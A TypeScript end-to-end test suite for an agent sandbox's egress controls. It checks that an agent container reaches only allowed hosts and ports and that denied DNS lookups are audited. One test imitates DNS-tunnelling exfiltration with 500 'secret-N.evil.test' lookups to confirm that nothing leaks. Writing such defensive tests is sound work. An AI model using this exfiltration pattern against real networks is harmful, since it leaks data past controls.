import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import type { StartedContainer } from '../../src/docker/engine.ts'
import type { Editor } from '../support/e2e/editor.ts'
import { World } from '../support/e2e/world.ts'

let world: World
let editor: Editor
let agent: StartedContainer

beforeAll(async () => {
  world = await World.open()
  const { network, subnet } = world.outside
  const open = { allow_private: [subnet] }
  await world.configure({
    egress: {
      networks: [network],
      rules: [
        { id: 'web', host: 'allowed.test', ports: [8080], protocol: 'http', ...open },
        { id: 'ssh', host: 'allowed.test', ports: [22, 2222], protocol: 'tcp', ...open },
        { id: 'late', host: 'late.test', ports: [18_080], protocol: 'tcp', ...open },
        { id: 'wild', host: '*.wild.test', ports: [8080], protocol: 'http', ...open },
      ],
    },
  })
  editor = world.editor()
  await editor.open(world.project)
  const ours = await world.engine.list(`glovebox.project=${world.project}`)
  agent = world.engine.container(ours[0]?.id ?? '')
})

afterAll(async () => {
  await editor?.[Symbol.asyncDispose]()
  await world?.[Symbol.asyncDispose]()
})

/** Runs a program inside, as the agent's own user, without any of the variables that name a proxy. */
function run(...command: string[]) {
  const names = ['HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'NODE_USE_ENV_PROXY']
  return agent.exec(['env', ...names.flatMap((name) => ['-u', name]), ...command])
}

async function inside(script: string): Promise<unknown> {
  const { stdout, stderr, exitCode } = await run('node', '-e', script)
  if (exitCode !== 0) throw new Error(`${exitCode}: ${stdout}${stderr}`)
  return JSON.parse(stdout)
}

const fetched = `
  fetch('http://allowed.test:8080/fetch', { signal: AbortSignal.timeout(5000) })
    .then((response) => response.text())
    .then((text) => console.log(JSON.stringify(text)))
`

const connected = (host: string, port: number) => `
  const socket = require('node:net').connect({ host: '${host}', port: ${port}, timeout: 3000 })
  const say = (what) => { console.log(JSON.stringify(what)); process.exit() }
  socket.on('connect', () => say('connected')).on('error', (error) => say(error.code)).on('timeout', () => say('timeout'))
`

describe('a program that knows no proxy', () => {
  it('[G-NET] finds the container’s own resolver and no other', async () => {
    const { stdout } = await run('cat', '/etc/resolv.conf')
    const servers = stdout.split('\n').filter((line) => line.startsWith('nameserver'))
    expect(servers).toEqual(['nameserver 127.0.0.1'])
  })

  it('looks an allowed name up as it always does', async () => {
    const hosts = await run('getent', 'hosts', 'allowed.test')
    expect(hosts.stdout).toMatch(/^127\.77\.\d+\.\d+\s+allowed\.test\n$/)
    expect((await run('getent', 'ahosts', 'allowed.test')).exitCode).toBe(0)
    const found = await inside(`
      const dns = require('node:dns/promises')
      Promise.all([dns.lookup('allowed.test'), dns.lookup('allowed.test', { family: 4 }), dns.resolve4('allowed.test'), dns.resolve6('allowed.test').catch((error) => error.code)])
        .then((found) => console.log(JSON.stringify(found)))
    `)
    const address = hosts.stdout.split(/\s/)[0]
    const ipv4 = { address, family: 4 }
    expect(found).toEqual([ipv4, ipv4, [address], 'ENODATA'])
  })

  it('reaches an allowed host with fetch, and so does one that knows the proxy', async () => {
    expect(await inside(fetched)).toBe('hello from outside')
    const withProxy = await agent.exec(['node', '-e', fetched])
    expect(JSON.parse(withProxy.stdout)).toBe('hello from outside')
    const seen = await world.outside.requests()
    expect(seen.filter((line) => line === 'GET allowed.test:8080/fetch')).toHaveLength(2)
  })

  it('reaches an allowed host over a socket of its own, with half-close', async () => {
    const answer = await inside(`
      const socket = require('node:net').connect({ host: 'allowed.test', port: 8080, allowHalfOpen: true })
      socket.end('GET /raw HTTP/1.1\\r\\nHost: allowed.test:8080\\r\\nConnection: close\\r\\n\\r\\n')
      require('node:stream/consumers').text(socket).then((text) => console.log(JSON.stringify(text)))
    `)
    expect(answer).toMatch(/^HTTP\/1\.1 200 OK\r\n[^]*hello from outside/)
  })

  it('speaks WebSocket, as Node’s own client and as a raw upgrade', async () => {
    expect(
      await inside(`
        const socket = new WebSocket('ws://allowed.test:8080/built-in')
        socket.onopen = () => { console.log(JSON.stringify('open')); process.exit() }
        socket.onerror = (event) => { console.log(JSON.stringify(String(event.message))); process.exit() }
      `),
    ).toBe('open')
    expect(
      await inside(`
        require('node:http').get('http://allowed.test:8080/raw', { headers: {
          connection: 'Upgrade', upgrade: 'websocket', 'sec-websocket-version': '13', 'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
        } }).on('upgrade', (response, socket) => {
          socket.end('echoed')
          require('node:stream/consumers').text(socket).then((text) => console.log(JSON.stringify(text)))
        })
      `),
    ).toBe('echoed')
    expect(await world.outside.requests()).toEqual(
      expect.arrayContaining([
        'UPGRADE allowed.test:8080/built-in',
        'UPGRADE allowed.test:8080/raw',
      ]),
    )
  })

  it('runs git over http and ssh unchanged', async () => {
    await run('git', 'ls-remote', 'http://allowed.test:8080/repository.git')
    expect(await world.outside.requests()).toContain(
      'GET allowed.test:8080/repository.git/info/refs?service=git-upload-pack',
    )
    const options = [
      '-o',
      'BatchMode=yes',
      '-o',
      'StrictHostKeyChecking=no',
      '-o',
      'ConnectTimeout=5',
    ]
    const ssh = await run('ssh', '-v', '-p', '2222', ...options, 'git@allowed.test')
    expect(ssh.stderr).toContain('remote software version outside')
    expect((await world.outside.requests()).find((line) => line.startsWith('SSH '))).toMatch(
      /^SSH SSH-2\.0-OpenSSH/,
    )
  })

  it('finds names under a wildcard, each with an address of its own', async () => {
    const [one, other] = await Promise.all(
      ['one.wild.test', 'other.wild.test'].map((name) => run('getent', 'hosts', name)),
    )
    expect(one?.stdout).toMatch(/^127\.77\./)
    expect(other?.stdout).toMatch(/^127\.77\./)
    expect(one?.stdout.split(' ')[0]).not.toBe(other?.stdout.split(' ')[0])
    expect((await run('getent', 'hosts', 'wild.test')).exitCode).not.toBe(0)
  })
})

describe('a name that is not allowed', () => {
  it('[G-EGRESS] does not exist, at once, and is recorded', async () => {
    const [code, milliseconds] = (await inside(`
      const started = performance.now()
      require('node:dns').lookup('forbidden.test', (error) =>
        console.log(JSON.stringify([error?.code, performance.now() - started])))
    `)) as [string, number]
    expect(code).toBe('ENOTFOUND')
    expect(milliseconds).toBeLessThan(100)
    const denied = (await world.audit()).filter(
      (record) => record.type === 'egress.decision' && record['host'] === 'forbidden.test',
    )
    expect(denied).toMatchObject([
      { kind: 'dns', verdict: 'deny', reason: 'host_not_allowed', session: expect.any(String) },
    ])
  })

  it('[G-EGRESS] carries nothing outside, however often other names are asked', async () => {
    await inside(`
      const dns = require('node:dns/promises')
      Promise.allSettled(Array.from({ length: 500 }, (_, at) => dns.resolve4('secret-' + at + '.evil.test')))
        .then((all) => console.log(JSON.stringify(all.length)))
    `)
    const told = (await world.audit()).filter(
      (record) =>
        record.type === 'egress.decision' && String(record['host']).endsWith('.evil.test'),
    )
    expect(told.length).toBeGreaterThan(10)
    expect(told.length).toBeLessThan(150)
    expect(new Set(told.map((record) => record['verdict']))).toEqual(new Set(['deny']))
  })
})

describe('an allowed name', () => {
  it('[G-EGRESS] is refused on a port that no rule has', async () => {
    expect(await inside(connected('allowed.test', 8081))).toBe('ECONNREFUSED')
    expect(await inside(connected('allowed.test', 8080))).toBe('connected')
    expect(await inside(connected('allowed.test', 22))).toBe('connected')
  })

  it('leaves its ports to the agent’s own servers until it is asked for', async () => {
    const listened = await inside(`
      const server = require('node:net').createServer()
      server.on('error', (error) => { console.log(JSON.stringify(error.code)); process.exit() })
      server.listen(18080, '0.0.0.0', () => require('node:dns').lookup('late.test', (error) => {
        console.log(JSON.stringify(error?.code ?? 'listened on twice'))
        process.exit()
      }))
    `)
    // No address is given where somebody else would answer.
    expect(listened).toBe('EAI_AGAIN')
    expect(await inside(connected('late.test', 18_080))).toBe('connected')
  })
})
